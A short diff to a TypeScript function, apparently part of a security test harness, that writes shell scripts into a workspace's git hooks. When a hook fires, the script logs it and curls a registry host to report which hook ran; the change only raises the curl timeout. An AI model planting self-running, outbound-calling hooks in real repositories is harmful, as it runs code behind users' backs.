@@ -17,7 +17,7 @@ export function plants({ registry, workspace }: Target): Attempt[] {
   const program = [
     '#!/bin/sh',
     `echo "$0 $1" >> ${workspace}/.git/marks`,
-    `curl -s -m 5 -x http://127.0.0.1:3128 "http://${registry.host}/ran-$1" >/dev/null 2>&1`,
+    `curl -s -m 60 -x http://127.0.0.1:3128 "http://${registry.host}/ran-$1" >/dev/null 2>&1`,
     'exec cat',
   ].join('\n')
   const hooks = 'pre-commit commit-msg post-commit pre-push post-checkout reference-transaction'
